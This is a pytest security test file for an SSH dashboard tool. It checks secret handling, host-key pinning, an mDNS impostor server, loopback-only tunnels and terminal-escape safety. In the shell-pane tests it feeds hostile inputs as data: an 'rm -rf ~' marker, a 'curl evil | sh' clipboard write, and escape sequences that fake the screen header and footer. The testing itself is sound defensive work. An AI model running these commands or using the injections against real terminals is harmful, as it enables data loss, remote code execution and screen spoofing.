"""The promises SECURITY.md makes that no other test file proves, each against the real thing.

Real OpenSSH sshd on 127.0.0.1, asyncssh's own server as an impostor on 127.0.0.2, real mDNS
multicast on loopback, and the terminal widget rendered by Textual. SECURITY.md maps every
promise to its test, here or elsewhere.
"""

from __future__ import annotations

import asyncio
import base64
import logging
import os
import re
import stat
from pathlib import Path

import asyncssh
import pytest
from textual.app import App, ComposeResult
from textual.widgets import Static
from zeroconf import ServiceInfo
from zeroconf.asyncio import AsyncZeroconf

from spark_tui import logs
from spark_tui.config import locations
from spark_tui.config.store import ProfileStore
from spark_tui.core.devices import merge_devices
from spark_tui.core.errors import ConfigError, ConnectError
from spark_tui.core.models import ConnectionState, DeviceProfile, TunnelSpec, TunnelState
from spark_tui.core.presets import CATALOGUE, specs_for
from spark_tui.services.ssh.connection import ConnectionService
from spark_tui.services.discovery.browser import DiscoveryService
from spark_tui.services.fleet import Fleet
from spark_tui.services.ssh.onboarding import key_path_for, onboard
from spark_tui.widgets.terminal.view import TerminalView
from tests.test_tunnels import WebService

LOOPBACK = "127.0.0.1"
SSH = "_ssh._tcp.local."


async def trust(host: str, fp: str) -> bool:
    return True


@pytest.fixture
def rotating_log():
    """``logs.setup`` at DEBUG for one test; the logging set-up is put back afterwards."""
    saved = {name: (lg.handlers[:], lg.level, lg.propagate) for name in ("spark_tui", "asyncssh") for lg in [logging.getLogger(name)]}
    path = Path(logs.setup("DEBUG"))
    yield path
    for name, (handlers, level, propagate) in saved.items():
        logger = logging.getLogger(name)
        for handler in logger.handlers:
            if handler not in handlers:
                handler.close()
        logger.handlers[:], logger.level, logger.propagate = handlers, level, propagate


@pytest.fixture
async def web_page():
    """A small web service on 127.0.0.1 standing for an app on the device."""
    service = await WebService().start()
    yield service
    await service.stop()


def every_file_under(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()]


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --- secrets on disk ------------------------------------------------------------------------------


async def test_no_password_reaches_any_file_even_with_debug_logging_and_a_failed_attempt(sshd_factory, rotating_log, isolated_folders):
    server = sshd_factory()
    server.clear_user_keys()
    logging.getLogger("asyncssh").setLevel(logging.DEBUG)  # harsher than logs.setup: asyncssh's own debug lines too
    wrong = "wrong-" + server.password[::-1]
    profile = DeviceProfile("spark", server.host, server.user, server.port)
    steps: list[str] = []
    try:
        with pytest.raises(ConnectError) as failed:
            await onboard(profile, wrong, confirm_host_key=trust, on_step=lambda s, t: steps.append(t))
        assert failed.value.kind == "auth" and wrong not in str(failed.value)
        keyed = await onboard(profile, server.password, confirm_host_key=trust, on_step=lambda s, t: steps.append(t))
        assert keyed.identity_file == str(key_path_for("spark"))
        logging.getLogger("spark_tui.security_test").debug("debug logging reaches the file")
        for handler in logging.getLogger("spark_tui").handlers:
            handler.flush()
        assert "debug logging reaches the file" in rotating_log.read_text()
        written = every_file_under(isolated_folders)
        assert rotating_log in written and key_path_for("spark") in written and locations.known_hosts_path() in written
        for path in written:
            data = path.read_bytes()
            for secret in (server.password, wrong):
                assert secret.encode() not in data, path
                assert secret.encode("utf-16-le") not in data, path
        assert not any(server.password in text or wrong in text for text in steps)
        # Everything we wrote that holds a key or a trust decision is private, in private folders.
        for path in (key_path_for("spark"), Path(f"{key_path_for('spark')}.pub"), locations.known_hosts_path(), rotating_log):
            assert mode(path) == 0o600, path
        for folder in (locations.data_dir(), locations.keys_dir(), locations.state_dir()):
            assert mode(folder) == 0o700, folder
    finally:
        server.clear_user_keys()


@pytest.mark.parametrize("loose", [0o664, 0o646, 0o666], ids=["group-writable", "world-writable", "both"])
def test_a_profile_file_others_can_write_is_refused_and_left_as_it_is(tmp_path: Path, loose: int):
    path = tmp_path / "profiles.toml"
    text = '[devices.spark]\nhost = "spark-1a2b.local"\nidentity_file = "~/.ssh/id_ed25519"\n'
    path.write_text(text)
    path.chmod(loose)
    # Another local user could have pointed identity_file, jump_host or a tunnel's bind_address
    # anywhere: like OpenSSH with a writable ~/.ssh/config, refuse it and say how to fix it.
    with pytest.raises(ConfigError) as refused:
        ProfileStore(path).load()
    assert "chmod 600" in refused.value.hint
    assert path.read_text() == text and mode(path) == loose


def test_a_profile_file_only_its_owner_can_write_loads(tmp_path: Path):
    path = tmp_path / "profiles.toml"
    path.write_text('[devices.spark]\nhost = "spark-1a2b.local"\n')
    for private in (0o600, 0o644, 0o400):  # readable by others is not a risk to us; writable is
        path.chmod(private)
        assert ProfileStore(path).load().device("spark") is not None


# --- host keys --------------------------------------------------------------------------------


async def test_a_device_whose_host_key_changed_during_an_outage_is_never_reconnected(sshd_factory, tmp_path: Path, web_page):
    server = sshd_factory()
    asked: list[str] = []

    async def confirm(host: str, fp: str) -> bool:
        asked.append(fp)
        return True

    fleet = Fleet(telemetry_interval=0.5, known_hosts=tmp_path / "known_hosts")
    fleet.confirm_host_key = confirm
    profile = DeviceProfile("spark", server.host, server.user, server.port, identity_file=str(server.client_key))
    try:
        await fleet.connect(profile)
        stats = await fleet.start_tunnel(profile, TunnelSpec("web", web_page.port, 0))
        trusted = (tmp_path / "known_hosts").read_bytes()
        old_fingerprint = server.fingerprint()
        assert asked == [old_fingerprint] and stats.state is TunnelState.UP
        await asyncio.to_thread(server.stop)
        new_fingerprint = server.regenerate_host_key()  # a reinstalled device, or someone in the middle
        await asyncio.to_thread(server.start)
        deadline = asyncio.get_running_loop().time() + 20
        while "CHANGED" not in fleet.tunnel_stats("spark")[0].last_error:
            assert asyncio.get_running_loop().time() < deadline, fleet.tunnel_stats("spark")
            await asyncio.sleep(0.1)
        await asyncio.sleep(2.0)  # let the reconnect loop try again: it must keep refusing
        tunnel = fleet.tunnel_stats("spark")[0]
        assert tunnel.state is TunnelState.RECONNECTING and new_fingerprint in tunnel.last_error
        assert fleet.state("spark") is ConnectionState.FAILED
        assert asked == [old_fingerprint]  # the new key is never even offered for trust
        assert (tmp_path / "known_hosts").read_bytes() == trusted
        reader, writer = await asyncio.open_connection(LOOPBACK, tunnel.local_port)
        writer.write(b"GET /hello HTTP/1.0\r\n\r\n")
        try:
            answer = await asyncio.wait_for(reader.read(), 15)
        except ConnectionResetError:
            answer = b""
        assert answer == b""  # closed without a byte from anyone
        writer.close()
    finally:
        await fleet.close()


# --- tunnels on loopback ---------------------------------------------------------------------


def test_every_preset_and_a_tunnel_saved_without_an_address_listen_on_loopback_only(tmp_path: Path):
    for preset in CATALOGUE:
        for spec in specs_for(preset):
            assert spec.bind_address == LOOPBACK and not spec.exposed, spec
    path = tmp_path / "profiles.toml"
    path.write_text('[devices.spark]\nhost = "h"\n[[devices.spark.tunnels]]\nname = "web"\nremote_port = 8888\n')
    path.chmod(0o600)
    (spec,) = ProfileStore(path).load().device("spark").tunnels
    assert spec.bind_address == LOOPBACK and not spec.exposed


# --- mDNS is not identity ------------------------------------------------------------------------


class Impostor:
    """An SSH server on 127.0.0.2 with its own host key, advertised under a saved device's name."""

    async def start(self) -> Impostor:
        self.host_key = asyncssh.generate_private_key("ssh-ed25519")
        self.logins = 0
        impostor = self

        class Server(asyncssh.SSHServer):
            def begin_auth(self, username: str) -> bool:
                impostor.logins += 1
                return True

            def password_auth_supported(self) -> bool:
                return True

            def validate_password(self, username: str, password: str) -> bool:
                return False

        self.listener = await asyncssh.listen("127.0.0.2", 0, server_host_keys=[self.host_key], server_factory=Server)
        self.port = self.listener.sockets[0].getsockname()[1]
        return self

    async def stop(self) -> None:
        self.listener.close()
        await self.listener.wait_closed()


async def test_an_mdns_answer_claiming_a_saved_name_changes_neither_the_profile_nor_its_trusted_key(sshd, tmp_path: Path):
    config = tmp_path / "profiles.toml"
    store = ProfileStore(config)
    name = "spark-" + os.urandom(2).hex()
    store.add_device(DeviceProfile(name, sshd.host, sshd.user, sshd.port, identity_file=str(sshd.client_key)))
    known = tmp_path / "known_hosts"
    connections = ConnectionService(known_hosts=known, confirm_host_key=trust)
    await connections.connect(store.load().device(name))
    await connections.disconnect(name)
    before = (config.read_bytes(), known.read_bytes())

    impostor = await Impostor().start()
    heard: list = []
    browser = DiscoveryService(heard.append, interfaces=[LOOPBACK], coalesce=0.1)
    advertiser = AsyncZeroconf(interfaces=[LOOPBACK])
    try:
        browser.start()
        await advertiser.async_register_service(
            ServiceInfo(SSH, f"{name}.{SSH}", addresses=[bytes([127, 0, 0, 2])], port=impostor.port, server=f"{name}.local."),
            cooperating_responders=True,
        )
        deadline = asyncio.get_running_loop().time() + 10
        while not any(s.instance == f"{name}.{SSH}" for snap in heard for s in snap):
            assert asyncio.get_running_loop().time() < deadline, "the impostor was never heard"
            await asyncio.sleep(0.05)
        services = [s for s in heard[-1] if name in s.instance]
        rows = merge_devices(store.load().devices, services, {}, 0.0)
        saved = next(r for r in rows if r.profile is not None)
        assert (saved.host, saved.port) == (sshd.host, sshd.port)  # the profile still points at the real device
        # Connecting by the saved name still reaches the real device with the key we trusted.
        conn = await connections.connect(store.load().device(name))
        assert conn.get_server_host_key().get_fingerprint("sha256") == sshd.fingerprint()
        await connections.disconnect(name)
        # Whoever answers at the advertised address must pass the host-key check like anyone new:
        # without a yes from the user it is refused before any login is attempted.
        stranger = next(r for r in rows if r.profile is None)
        assert stranger.addresses == ("127.0.0.2",) and stranger.port == impostor.port
        cautious = ConnectionService(known_hosts=known)
        dialled = DeviceProfile(name, stranger.addresses[0], sshd.user, stranger.port, identity_file=str(sshd.client_key))
        with pytest.raises(ConnectError) as refused:
            await cautious.connect(dialled)
        assert refused.value.kind == "host-key-unknown" and impostor.logins == 0
        assert (config.read_bytes(), known.read_bytes()) == before
    finally:
        await advertiser.async_close()
        browser.close()
        await impostor.stop()
        await connections.close()


# --- hostile output in the shell pane -------------------------------------------------------------

MARKER = "rm -rf ~ #"
QUERIES = [
    f"\x1b]2;{MARKER}\x07\x1b[21t",  # set the title, then ask for it back (xterm title report)
    f"\x1b]0;{MARKER}\x07\x1b[20t",  # icon label report
    f"\x1bP$q{MARKER}\x1b\\",  # DECRQSS with a bogus setting
    "\x1bP$qm\x1b\\",  # DECRQSS for SGR
    "\x1bP+q726d202d7266\x1b\\",  # XTGETTCAP
    "\x05",  # ENQ: answerback
    "\x1b]52;c;?\x07",  # read the clipboard
    "\x1b]10;?\x07\x1b]11;?\x07\x1b]4;1;?\x07",  # colour queries
    "\x1b[?2004$p\x1b[4$p",  # DECRQM
    "\x1b[1;1;1;1;1;1*y",  # DECRQCRA checksum
    "\x1b[>q\x1b[>0q",  # XTVERSION
    "\x1b[14t\x1b[18t\x1b[13t\x1b[19t",  # window reports
    "\x1b]1337;ReportCellSize\x07\x1b]1337;RequestUpload=format=tgz\x07",
    f"\x1b[?1$u\x1b_G{MARKER}\x1b\\",  # kitty protocols
    "\x9b6n\x9d2;x\x07",  # C1 forms of CSI and OSC
    "\x1b[6n\x1b[?6n\x1b[5n\x1b[c\x1b[>c\x1bZ",  # the harmless reports a shell needs
]
# Fixed forms only: positions, status, device attributes, mode states (DECRQM: a mode number
# and 0-4) and our own name and version (XTVERSION); never a byte the remote chose.
ALLOWED_REPLY = re.compile(
    rb"\x1b\[(\d+;\d+R|\?\d+;\d+R|0n|\?62;22c|>1;10;0c|\??\d{1,5};[0-4]\$y)|\x1bP>\|spark-tui\([0-9a-z.+]+\)\x1b\\"
)


class ShellPane(App):
    """A dashboard stand-in: a header, the terminal pane, a footer."""

    CSS = "#term { height: 8; } Static { height: 1; }"

    def compose(self) -> ComposeResult:
        yield Static("HEADER spark-1a2b connected", id="header")
        yield TerminalView(id="term")
        yield Static("FOOTER q quit", id="footer")


def screen_lines(app: App) -> list[str]:
    return ["".join(segment.text for segment in strip) for strip in app.screen._compositor.render_strips()]


async def test_terminal_queries_never_echo_remote_text_back_as_keystrokes():
    app = ShellPane()
    sent: list[bytes] = []
    async with app.run_test(size=(60, 12), message_hook=lambda m: sent.append(m.data) if isinstance(m, TerminalView.Input) else None) as pilot:
        view = app.query_one(TerminalView)
        for query in QUERIES:
            view.feed(query.encode())
        await pilot.pause()
    assert sent, "the harmless reports (cursor position, device attributes) are answered"
    for data in sent:
        assert ALLOWED_REPLY.fullmatch(data), data
        assert MARKER.encode() not in data and b"\r" not in data and b"\n" not in data


async def test_a_clipboard_write_from_the_remote_is_refused():
    app = ShellPane()
    async with app.run_test(size=(60, 12)) as pilot:
        view = app.query_one(TerminalView)
        view.feed(b"\x1b]52;c;" + base64.b64encode(MARKER.encode()) + b"\x07")
        view.feed(b"\x1b]52;p;" + base64.b64encode(b"curl evil | sh") + b"\x1b\\")
        await pilot.pause()
        assert app.clipboard == ""
        assert view.terminal.refused_clipboard_writes == 2


SPOOF = (
    b"\x1b[2J\x1b[H\x1b[1;1HFAKE HEADER\x1b[0;0H"  # clear and draw over "the top of the screen"
    b"\x1b[999;999HFAKE FOOTER\x1b[100B\x1b[100C"  # the far corner
    b"\x1b[?1049h\x1b[r\x1b[3;1r" + b"\n" * 300  # alternate screen, odd scroll regions, floods
    + b"\x1b]0;\x1b[31mtitle\x07\x1bP\x1b[2J\x1b\\" + b"\x9b2J\x90x\x9c\x07\x08\x7f"
    + "\u202eevil\u2066".encode() + b"\x1b[?1049l" + b"tail \xff\xfe \x1b[38;2;1;2;3mcolour\x1b[0m"
)


async def test_remote_output_draws_only_inside_the_pane_and_never_reaches_the_outer_terminal_raw():
    app = ShellPane()
    async with app.run_test(size=(60, 12)) as pilot:
        await pilot.pause()
        before = screen_lines(app)
        view = app.query_one(TerminalView)
        region = view.region
        view.feed(SPOOF)
        await pilot.pause()
        after = screen_lines(app)
        outside = [y for y in range(len(after)) if not region.y <= y < region.bottom]
        assert outside and all(after[y] == before[y] for y in outside)
        assert after[0].startswith("HEADER spark-1a2b") and "FAKE" not in "".join(after[y] for y in outside)
        for strip in app.screen._compositor.render_strips():
            for segment in strip:
                assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in segment.text), repr(segment.text)
        for y in range(region.height):
            assert view.render_line(y).cell_length == region.width
        # What Textual writes to the real terminal: only its own cursor moves and colours.
        update = app.screen._compositor.render_full_update()
        written = update.render_segments(app.console)
        leftovers = re.sub(r"\x1b\[[0-9;:]*[mHK]|\x1b\[\?[0-9;]*[hl]|\x1b7|\x1b8", "", written)
        assert "\x1b" not in leftovers and "\x07" not in leftovers
        assert not any(0x80 <= ord(c) <= 0x9F for c in leftovers)
